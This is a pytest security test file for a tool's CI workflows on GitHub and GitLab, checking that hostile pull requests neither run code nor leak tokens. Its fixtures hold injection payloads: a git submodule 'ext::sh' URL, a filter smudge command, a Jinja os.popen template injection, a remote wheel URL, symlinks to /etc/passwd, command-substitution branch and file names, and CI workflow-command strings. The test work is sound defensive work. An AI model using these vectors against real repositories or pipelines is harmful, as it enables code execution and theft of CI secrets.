"""The workflows of a founded archive, run step by step on changes that mean harm: nothing of a change runs anywhere."""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from concord.catalogues import load_catalogue
from concord.check.rules import find_rule
from concord.found.founding import build_founding
from concord.found.repository import render_repository
from concord.model.charter import Preset
from forge_play import REPOSITORY, TOKEN, Forge, Run, bring_tool, open_forge, run_workflow

BRANCH = "$(touch${IFS}canary)`id`;&'\"<b>"
TITLE = (
    "::error::x $(touch canary) `touch canary` @victim #1 https://evil.example یہ پرانے پل کی کہانی ہے %0A::warning::"
)
MARK = "<!-- concord-answer -->"


@dataclass
class Scene:
    """A repository at the forge, with one change proposed to it."""

    place: Path
    forge: Forge
    tree: Path
    canary: Path
    head: str = ""
    merged: str = ""
    runs: int = 0

    @property
    def server(self) -> Path:
        return self.place / "server"

    def propose(self, change: Callable[[Path], None], branch: str = BRANCH) -> None:
        """A commit of a change, and the merge that the forge makes of it for the check."""
        git(self.tree, "checkout", "-q", "-b", branch, "main")
        change(self.tree)
        git(self.tree, "add", "--all", "--force")
        add_submodule(self.tree)
        git(self.tree, "commit", "-q", "-m", TITLE)
        self.head = git(self.tree, "rev-parse", "HEAD")
        self.merged = git(
            self.tree, "commit-tree", f"{self.head}^{{tree}}", "-p", "main", "-p", self.head, "-m", "merge"
        )
        bare = self.server / REPOSITORY
        git(self.tree, "push", "-q", str(bare), f"{self.head}:refs/pull/7/head", f"{self.merged}:refs/pull/7/merge")
        pull = {"number": 7, "owner": "stranger", "branch": branch, "head": {"sha": self.head}}
        self.forge.pulls = [{**pull, "number": 6, "head": {"sha": "0" * 40}}, pull]

    def play(self, name: str, title: str = TITLE) -> Run:
        """A run of one of the workflows, as they stand on the main branch."""
        self.runs += 1
        event = {
            "pull_request.title": title,
            "workflow_run.id": "77",
            "workflow_run.head_sha": self.head,
            "workflow_run.head_branch": self.forge.pulls[-1]["branch"] if self.forge.pulls else "gone",
            "workflow_run.head_repository.owner.login": "stranger",
            "workflow_run.html_url": "https://forge.example/two/shores/actions/runs/77",
            "repository.default_branch": "main",
        }
        flow = self.place / "flows" / ".github" / "workflows" / f"{name}.yml"
        sha = self.merged if name == "check" else git(self.tree, "rev-parse", "main")
        run = run_workflow(flow, self.place / str(self.runs), self.forge, self.server, event, sha)
        assert not list(self.place.rglob("canary*")), "something of the change was run"
        assert TOKEN not in run.log + run.summary
        return run

    def check_and_answer(self, title: str = TITLE) -> tuple[Run, Run]:
        """Both workflows, as the forge starts one after the other."""
        checked = self.play("check", title)
        self.forge.artifacts = dict(checked.artifacts)
        return checked, self.play("answer")

    @property
    def comment(self) -> str:
        """The one comment that is ours."""
        (body,) = [one["body"] for one in self.forge.comments if one["user"]["login"] == "github-actions[bot]"]
        return body


def git(folder: Path, *words: str) -> str:
    who = {f"GIT_{one}_{what}": "x@example.org" for one in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")}
    environment = {**os.environ, **who, "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1"}
    done = subprocess.run(["git", *words], cwd=folder, capture_output=True, text=True, env=environment, check=False)
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


def add_submodule(tree: Path) -> None:
    """A link to another repository inside archive/, as git keeps it, if the change names one."""
    if (tree / ".gitmodules").exists():
        head = git(tree, "rev-parse", "main")
        git(tree, "update-index", "--add", "--cacheinfo", f"160000,{head},archive/entries/other-repository")


@pytest.fixture
def scene(tmp_path: Path, agreed: Path) -> Iterator[Scene]:
    """A founded archive with all workflows, and the words of an archive that is in order."""
    for tool in ("git", "jq", "curl", "bash"):
        if shutil.which(tool) is None:
            pytest.skip(f"the forge's machines have {tool}, this one has not")
    founding = build_founding("two-shores", ("east", "west"), ("hi", "ur"), Preset.LIGHT, "2026-11-28")
    tree = tmp_path / "tree"
    for place in (tree, tmp_path / "flows"):
        for path, text in render_repository(founding, "concord-archive==0.1.0"):
            (place / path).parent.mkdir(parents=True, exist_ok=True)
            (place / path).write_text(text, encoding="utf-8", newline="\n")
    shutil.rmtree(tree / "archive")
    shutil.copytree(agreed, tree / "archive")
    bare = tmp_path / "server" / REPOSITORY
    bare.parent.mkdir(parents=True)
    git(tree, "init", "-q", "-b", "main")
    # Whoever means harm commits the bytes they want, whatever their attributes ask of others.
    (tree / ".git" / "info" / "attributes").write_text("* -text -ident !eol !filter !working-tree-encoding\n")
    git(tree, "add", "--all", "--force")
    git(tree, "commit", "-q", "-m", "Founded")
    git(tree, "init", "-q", "--bare", str(bare))
    git(bare, "config", "uploadpack.allowAnySHA1InWant", "true")
    git(tree, "push", "-q", str(bare), "main:refs/heads/main")
    with open_forge() as forge:
        yield Scene(tmp_path, forge, tree, tmp_path / "canary")


def change_everything(tree: Path) -> None:
    """What somebody would try who wants a machine of the archive to do something for them."""
    canary = tree.parent / "canary"
    code = f"open({str(canary)!r}, 'w').close()\n"
    text = "{{ cycler.__init__.__globals__.os.popen('touch CANARY').read() }} {% for x in y %}${{ secrets.TOKEN }}\n"
    files = {
        "plugins/concord/__init__.py": code,
        "concord.py": code,
        "sitecustomize.py": code,
        "archive/conftest.py": code,
        "mkdocs.yml": "site_name: x\ndocs_dir: archive\nhooks: [plugins/concord/__init__.py]\nplugins: [evil]\n",
        "requirements.txt": "evil @ https://evil.example/evil.whl\n",
        "concord.toml": f"run = 'touch {canary}'\n",
        "overrides/main.html": text.replace("CANARY", str(canary)),
        ".gitattributes": "* filter=evil diff=evil export-subst\n",
        "archive/.gitattributes": "* filter=evil text eol=crlf export-subst ident working-tree-encoding=UTF-16\n",
        ".gitmodules": '[submodule "x"]\n\tpath = archive/entries/other-repository\n\turl = ext::sh -c touch% canary\n',
        ".gitconfig": f'[filter "evil"]\n\tsmudge = touch {canary}\n',
        "archive/entries/old-bridge/text.ur.md": text.replace("CANARY", str(canary)) + "@victim https://evil.example\n",
        "archive/entries/old-bridge/media/$(touch canary).png": "x",
        "archive/entries/x\n::error::owned\n::set-output name=a::b/entry.yml": "share: yes\n",
        "archive/entries/new-one/entry.yml": "kind: '</code>@victim <img src=x> #1 ::stop'\nid: '`id`'\n",
        "archive/programme/##vso[task.setvariable]x.yml": "a: b\n",
    }
    for path, words in files.items():
        (tree / path).parent.mkdir(parents=True, exist_ok=True)
        (tree / path).write_text(words, encoding="utf-8", newline="\n")
    for path, target in {
        "archive/entries/old-bridge/text.en.md": "/etc/passwd",
        "archive/entries/outside": "../../..",
        "archive/entries/plain-song/media": str(tree.parent / "server"),
    }.items():
        (tree / path).symlink_to(target)


class Outside(HTMLParser):
    """Tags, and the words that stand outside code, where a forge looks for mentions and addresses."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.links: set[str] = set()
        self.words, self.depth = "", 0
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.depth += tag == "code"
        self.links |= {value for name, value in attrs if name not in ("dir", "lang")}

    def handle_endtag(self, tag):
        self.depth -= tag == "code"

    def handle_data(self, data):
        self.words += "" if self.depth else data


def assert_harmless(comment: str) -> None:
    """Nothing in a comment that a forge would obey, follow or tell somebody of."""
    assert comment.startswith(MARK)
    assert len(comment.encode()) <= 60_000
    seen = Outside(comment)
    assert seen.tags <= {"div", "p", "b", "br", "code", "span", "a"}
    assert seen.links <= {"https://forge.example/two/shores/actions/runs/77"}
    assert not re.search(r"@\w|#\d|https?:|evil", seen.words)
    body = comment.removeprefix(MARK).replace("https://forge.example", "")
    assert not re.search(r"[`*_\[\]!|~\\@]|https?:|^\s*/", body, re.MULTILINE)


def test_nothing_of_a_hostile_change_runs_and_all_of_it_is_told_escaped(scene: Scene) -> None:
    scene.propose(change_everything)
    theirs = {"id": 900, "user": {"login": "stranger"}, "body": f"{MARK} all is well"}
    scene.forge.comments = [theirs] * 101
    checked, answered = scene.check_and_answer()
    assert checked.ended == {"check": 1}, "errors fail the check"
    assert set(checked.artifacts) == {"note", "report"}, "what cannot be built is not attached"
    commands = [line for line in checked.log.splitlines() if "::" in line[:3]]
    assert len(commands) > 3
    assert all(re.match(r"::(error|warning|notice) file=archive/[^:]*,title=[A-Z]{2}\d{3} ", one) for one in commands)
    assert not re.search(r"##\w*\[", checked.log)
    assert "root:" not in checked.log + checked.summary, "a link was followed"
    assert answered.ended == {"write": 0, "post": 0}, answered.log
    assert scene.forge.written == [("POST", f"/repos/{REPOSITORY}/issues/7/comments")]
    assert_harmless(scene.comment)
    assert_harmless(checked.summary)
    assert '<div dir="rtl" lang="ur">' in scene.comment, "the title is in Urdu"
    assert 'lang="hi"' not in scene.comment
    said = Outside(scene.comment).words
    assert load_catalogue("ur").gettext("help") in said
    for rule in ("file-not-plain", "path-invalid", "file-unexpected"):
        assert find_rule(rule).RULE.code in said, "links, names and strays are told in the comment"
    scene.play("answer")
    assert scene.forge.written[1:] == [("PATCH", f"/repos/{REPOSITORY}/issues/comments/102")], "one comment, renewed"
    assert theirs["body"] == f"{MARK} all is well"


def test_a_change_in_order_is_answered_with_the_workshop_edition(scene: Scene) -> None:
    def change(tree: Path) -> None:
        path = tree / "archive" / "entries" / "old-bridge" / "text.ur.md"
        path.write_text(path.read_text(encoding="utf-8") + "\nیہ پل اب بھی ہے۔\n", encoding="utf-8", newline="\n")

    scene.propose(change, "words")
    checked, answered = scene.check_and_answer("Update text.ur.md")
    assert checked.ended == {"check": 0}, checked.log
    assert answered.ended == {"write": 0, "post": 0}, answered.log
    assert 'lang="ur"' in scene.comment, "the forge's own title says nothing; the file does"
    with zipfile.ZipFile(io.BytesIO(checked.artifacts["workshop"])) as packed:
        pages = [name for name in packed.namelist() if name.endswith(".html")]
        assert len(pages) > 10
        assert all(b'content="noindex' in packed.read(name) for name in pages)
    assert json.loads(read_note(checked))["edition"] is True


def test_reminders_that_were_there_before_are_not_held_against_a_change(scene: Scene) -> None:
    """A review of the old bridge is long due, and the change is about a song."""

    def change(tree: Path) -> None:
        path = tree / "archive" / "entries" / "plain-song" / "text.hi.md"
        path.write_text(path.read_text(encoding="utf-8") + "\nनया वाक्य।\n", encoding="utf-8", newline="\n")

    record = scene.tree / "archive" / "entries" / "old-bridge" / "record.yml"
    words = record.read_text(encoding="utf-8")
    assert "due: 2026-08-01" in words
    record.write_text(words.replace("due: 2026-08-01", "due: 2026-02-02"), encoding="utf-8", newline="\n")
    git(scene.tree, "commit", "-q", "-am", "A review")
    git(scene.tree, "push", "-q", str(scene.server / REPOSITORY), "main:refs/heads/main")
    scene.propose(change, "words")
    checked, _ = scene.check_and_answer("नया वाक्य")
    note = json.loads(read_note(checked))
    code = find_rule("review-overdue").RULE.code
    assert code in checked.log, "who keeps the archive still sees it beside the lines"
    assert "review-overdue" not in {one["rule"] for one in note["problems"]}
    assert note["before"] is True
    assert code not in scene.comment


def read_note(run: Run) -> bytes:
    with zipfile.ZipFile(io.BytesIO(run.artifacts["note"])) as packed:
        assert packed.namelist() == ["note.json"]
        return packed.read("note.json")


def pack(name: str, raw: bytes, how: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as packed:
        packed.writestr(name, raw)
    return out.getvalue()


EVIL = "@victim </code><script>x</script> ![](https://evil.example/x) #1"
FORGED = {
    "format": "concord-note/1",
    "prefix": EVIL,
    "languages": ["hi", "ur"],
    "edition": True,
    "problems": [
        {"rule": "field-unknown", "path": EVIL, "values": {"field": EVIL, "hint": EVIL, "nearest": EVIL}, "text": EVIL},
        {"rule": "file-missing", "path": "x", "values": {"what": EVIL, "language": EVIL, "expected": EVIL}},
        {"rule": EVIL, "path": "x"},
        {"rule": "field-missing", "path": "x", "related": [{"path": EVIL, "note": EVIL, "values": {}}]},
    ],
    "passed_over": [{"rule": "review-overdue", "path": EVIL, "values": {"due": EVIL}, "reason": EVIL}],
    "left_out": [{"rule": EVIL, "path": EVIL, "number": 3}],
}
NO_NOTES = {
    "none": {},
    "no zip": {"note": b"PK\x03\x04 nothing"},
    "another name": {"note": pack("../../note.json", b"{}")},
    "a bomb": {"note": pack("note.json", b"[" * 50_000_000)},
    "depth": {"note": pack("note.json", b"[" * 100_000)},
    "no note": {"note": pack("note.json", b'{"format": "concord-note/1", "comment": "@victim"}')},
    "no text": {"note": pack("note.json", b"\xff\xfe\x00")},
    "a language": {"note": pack("note.json", b'{"languages": ["../../x"]}')},
}


def change_words(tree: Path) -> None:
    (tree / "archive" / "entries" / "old-bridge" / "text.hi.md").write_text("क\n", encoding="utf-8", newline="\n")


def test_a_forged_note_says_nothing_in_our_name(scene: Scene) -> None:
    scene.propose(change_words)
    scene.forge.artifacts = {"note": pack("note.json", json.dumps(FORGED).encode())}
    answered = scene.play("answer")
    assert answered.ended == {"write": 0, "post": 0}, answered.log
    assert_harmless(scene.comment)
    assert scene.comment.count("<div ") == 2


@pytest.mark.parametrize("kind", NO_NOTES)
def test_what_is_no_note_is_answered_in_every_language(scene: Scene, kind: str) -> None:
    scene.propose(change_words)
    scene.forge.artifacts = dict(NO_NOTES[kind])
    answered = scene.play("answer")
    assert answered.ended == {"write": 0, "post": 0}, answered.log
    assert_harmless(scene.comment)
    assert {'lang="hi"', 'lang="ur"'} <= set(re.findall(r'lang="\w+"', scene.comment))
    assert "Traceback" not in answered.log


def test_a_change_that_edits_the_check_is_not_believed(scene: Scene) -> None:
    def change(tree: Path) -> None:
        change_words(tree)
        (tree / ".github" / "workflows" / "check.yml").write_text("on: push\n", encoding="utf-8")

    scene.propose(change)
    scene.forge.artifacts = {"note": pack("note.json", json.dumps(FORGED).encode())}
    assert scene.play("answer").ended == {"write": 0, "post": 0}
    assert_harmless(scene.comment)
    assert not re.search(r"[A-Z]{2}\d{3}|<code>", scene.comment), "nothing of its note is repeated"


def test_a_change_that_has_moved_on_is_answered_by_its_next_run(scene: Scene) -> None:
    scene.propose(change_words)
    scene.forge.pulls = [{**one, "head": {"sha": "1" * 40}} for one in scene.forge.pulls]
    assert scene.play("answer").ended == {"write": 0, "post": 0}
    assert scene.forge.written == []


@pytest.mark.parametrize("how", ["link", "gone", "file"])
def test_a_change_without_an_archive_is_told_so(scene: Scene, how: str) -> None:
    def change(tree: Path) -> None:
        shutil.rmtree(tree / "archive")
        if how == "link":
            (tree / "archive").symlink_to("/etc")
        if how == "file":
            (tree / "archive").write_text("x", encoding="utf-8")

    scene.propose(change)
    checked, answered = scene.check_and_answer()
    assert checked.ended["check"]
    assert checked.artifacts == {}
    assert answered.ended == {"write": 0, "post": 0}
    assert_harmless(scene.comment)


def test_rights_are_divided_between_the_jobs(scene: Scene) -> None:
    flows = {
        path.stem: yaml.safe_load(path.read_text(encoding="utf-8"))
        for path in (scene.place / "flows" / ".github" / "workflows").glob("*.yml")
    }
    assert flows["check"]["permissions"] == {"contents": "read"}
    answer = flows["answer"]
    assert answer["permissions"] == {}
    assert answer["jobs"]["write"]["permissions"] == {"actions": "read", "contents": "read"}
    assert answer["jobs"]["post"]["permissions"] == {"pull-requests": "write"}
    posting = " ".join(step["run"] for step in answer["jobs"]["post"]["steps"])
    assert not re.search(r"git |concord \w|python|pip", posting), "whoever may write reads nothing of the change"
    for flow in flows.values():
        assert "pull_request_target" not in str(flow)
        assert "secrets." not in str(flow)
        uses = [step["uses"] for job in flow["jobs"].values() for step in job["steps"] if "uses" in step]
        assert all(re.fullmatch(r"actions/[a-z-]+@[0-9a-f]{40}", one) for one in uses), "a tag can be moved"


def play_gitlab(scene: Scene, title: str) -> tuple[subprocess.CompletedProcess[bytes], Path]:
    """The job that checks a merge request, in a clone at the change's commit, as the other forge's runner has it."""
    work, tool = scene.place / "runner", scene.place / "tool"
    git(scene.place, "clone", "-q", str(scene.server / REPOSITORY), str(work))
    git(work, "fetch", "-q", "origin", "refs/pull/7/head")
    git(work, "checkout", "-q", "--detach", scene.head)
    lines = yaml.safe_load((scene.place / "flows" / ".gitlab-ci.yml").read_text(encoding="utf-8"))["check"]["script"]
    asked = [line for line in lines if re.search(r"venv|bin/pip", line)]
    there = asked[0].removeprefix("python3 -m venv ")
    assert asked[1:] == [f"{there}/bin/pip install --quiet --requirement requirements.txt"]
    bring_tool(tool)
    script = "\n".join(line for line in lines if line not in asked).replace(there, str(tool))
    environment = {
        "PATH": os.environ["PATH"],
        "HOME": str(scene.place / "home"),
        "LANG": "C.UTF-8",
        "CI_MERGE_REQUEST_DIFF_BASE_SHA": git(scene.tree, "rev-parse", "main"),
        "CI_COMMIT_SHA": scene.head,
        "CI_MERGE_REQUEST_TITLE": title,
    }
    done = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
        cwd=work, env=environment, capture_output=True, check=False, timeout=300,
    )  # fmt: skip
    assert not list(scene.place.rglob("canary*")), "something of the change was run"
    return done, work / "answer"


def test_the_other_forge_runs_nothing_of_a_hostile_change_either(scene: Scene) -> None:
    scene.propose(change_everything)
    done, answer = play_gitlab(scene, TITLE)
    said = (done.stdout + done.stderr).decode()
    assert done.returncode == 1, said
    assert sorted(path.name for path in answer.iterdir()) == ["quality.json", "ur.html"]
    quality = json.loads((answer / "quality.json").read_bytes())
    assert len({one["fingerprint"] for one in quality}) == len(quality) > 8
    assert {"description", "check_name", "fingerprint", "severity", "location"} == set(quality[0])
    outside = " ".join(re.sub(r"`[^`]*`", "", one["description"]) for one in quality)
    assert not re.search(r"@|https?:|</|#1|\n", outside)
    assert load_catalogue("ur").gettext("help") in said
    assert not re.search(r"##\w*\[|\x1b|^::", said, re.MULTILINE)
    assert "root:" not in said


def test_the_other_forge_shows_the_workshop_edition_of_a_change_in_order(scene: Scene) -> None:
    scene.propose(change_words, "words")
    done, answer = play_gitlab(scene, "Update text.hi.md")
    assert done.returncode == 0, done.stderr
    assert (answer / "hi.html").is_file()
    assert b'content="noindex' in (answer / "workshop" / "index.html").read_bytes()
